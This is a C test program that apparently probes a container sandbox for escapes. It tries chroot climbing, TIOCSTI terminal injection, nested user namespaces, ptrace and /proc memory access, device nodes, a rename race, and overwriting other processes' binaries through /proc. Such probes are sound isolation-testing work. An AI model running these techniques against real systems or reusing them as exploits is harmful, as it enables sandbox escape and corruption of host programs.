/* What a hostile program tries, one attack by name. Each prints what the kernel answered; a line
 * that begins with "escaped" means that it worked.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static int answer(const char *what, long result) {
    if (result >= 0)
        printf("escaped: %s\n", what);
    else
        printf("held: %s: %s\n", what, strerror(errno));
    fflush(stdout);
    return result >= 0;
}

/* A chroot below, and up from a directory outside it: the one that is open as `fd`, or the present. */
static void climb(int fd, const char *marker) {
    mkdir("below", 0700);
    if (chroot("below")) { perror("chroot"); return; }
    if (fd >= 0 && fchdir(fd)) { perror("fchdir"); return; }
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    if (chroot(".")) { perror("chroot"); return; }
    answer("climbed to the host's root", access(marker, F_OK));
}

/* Letters for the terminal's own input. */
static void type(void) {
    char letter = 'x';
    char linux_paste[] = {3};
    answer("TIOCSTI", syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, &letter));
    answer("TIOCSTI with more bits", syscall(SYS_ioctl, 0, TIOCSTI | 1UL << 32, &letter));
    answer("TIOCSTI with all bits", syscall(SYS_ioctl, 0, TIOCSTI | 0xffffffffUL << 32, &letter));
    answer("TIOCLINUX", syscall(SYS_ioctl, 0, (unsigned long)TIOCLINUX, linux_paste));
}

static int nothing(void *unused) { return unused != NULL; }

#ifdef __x86_64__
static long call32(long number, long first) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
    if (result < 0) { errno = -result; return -1; }
    return result;
}
#endif

static void nest(void) {
    static char stack[65536];
    struct clone_args arguments = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    long child;
    int own = open("/proc/self/ns/user", O_RDONLY);
    answer("unshare(NEWUSER)", unshare(CLONE_NEWUSER));
    answer("unshare(NEWUSER|NEWNS)", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    answer("clone(NEWUSER)", clone(nothing, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL));
    child = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (child == 0) _exit(0);
    answer("clone3(NEWUSER)", child);
    if (own >= 0) answer("setns(NEWUSER)", setns(own, CLONE_NEWUSER));
#ifdef __x86_64__
    answer("unshare by int 0x80", call32(310, CLONE_NEWUSER));
    answer("unshare by x32", syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER));
#endif
}

static void trace(int process, const char *marker) {
    char path[256], byte;
    struct iovec here = {&byte, 1}, there = {(void *)0x1000, 1};
    answer("PTRACE_ATTACH", ptrace(PTRACE_ATTACH, process, 0, 0));
    answer("PTRACE_SEIZE", ptrace(PTRACE_SEIZE, process, 0, 0));
    answer("process_vm_readv", process_vm_readv(process, &here, 1, &there, 1, 0));
    snprintf(path, sizeof path, "/proc/%d/mem", process);
    answer("opening its memory", open(path, O_RDWR));
    snprintf(path, sizeof path, "/proc/%d/exe", process);
    answer("opening its file", open(path, O_WRONLY));
    snprintf(path, sizeof path, "/proc/%d/root%s", process, marker);
    answer("looking through its root", access(path, F_OK));
}

/* Tries for some seconds to open the file of any process but its own for writing. */
static void overwrite(int seconds) {
    char path[64], own[32];
    snprintf(own, sizeof own, "%d", getpid());
    for (long rounds = 0; rounds < seconds * 20000L; rounds++) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int held, file;
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own)) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            held = open(path, O_RDONLY);
            if (held < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            file = open(path, O_WRONLY | O_NONBLOCK);
            if (file >= 0) {
                /* Its own files it may ruin. */
                struct stat found, mine, programs;
                fstat(file, &found);
                stat("/proc/self/exe", &mine);
                stat("/bin/busybox", &programs);
                if (found.st_ino != mine.st_ino && found.st_ino != programs.st_ino && write(file, "overwritten", 11) > 0)
                    printf("escaped: wrote to the file of process %s\n", entry->d_name), fflush(stdout);
                close(file);
            }
            close(held);
        }
        if (proc) closedir(proc);
    }
    puts("held: no file was written to");
}

static void keys(void) {
    answer("add_key", syscall(SYS_add_key, "user", "test", "x", 1, KEY_SPEC_USER_KEYRING));
    answer("request_key", syscall(SYS_request_key, "user", "mini-container-secret", NULL, 0));
    answer("keyctl(read)", syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_USER_KEYRING, NULL, 0));
}

static void disk(void) {
    char byte;
    int file;
    answer("mknod", mknod("/disk", S_IFBLK | 0600, makedev(254, 0)));
    answer("mknod in /dev", mknod("/dev/disk", S_IFBLK | 0600, makedev(254, 0)));
    answer("mknod of memory", mknod("/dev/mem", S_IFCHR | 0600, makedev(1, 1)));
    file = open("/disk", O_RDONLY);
    answer("reading the disk", file < 0 ? -1 : read(file, &byte, 1));
    file = open("/dev/disk", O_RDONLY);
    answer("reading the disk in /dev", file < 0 ? -1 : read(file, &byte, 1));
}

/* Exchanges two names until it is killed. */
static void swap(const char *one, const char *other) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
}

int main(int count, char **words) {
    const char *name = count > 1 ? words[1] : "";
    const char *first = count > 2 ? words[2] : "0";
    if (!strcmp(name, "climb")) climb(-1, first);
    else if (!strcmp(name, "climb-from")) climb(atoi(first), count > 3 ? words[3] : "/");
    else if (!strcmp(name, "type")) type();
    else if (!strcmp(name, "nest")) nest();
    else if (!strcmp(name, "trace")) trace(atoi(first), count > 3 ? words[3] : "/");
    else if (!strcmp(name, "overwrite")) overwrite(atoi(first));
    else if (!strcmp(name, "who")) printf("%d\n", geteuid());
    else if (!strcmp(name, "keys")) keys();
    else if (!strcmp(name, "disk")) disk();
    else if (!strcmp(name, "swap") && count > 3) swap(words[2], words[3]);
    else return 2;
    return 0;
}
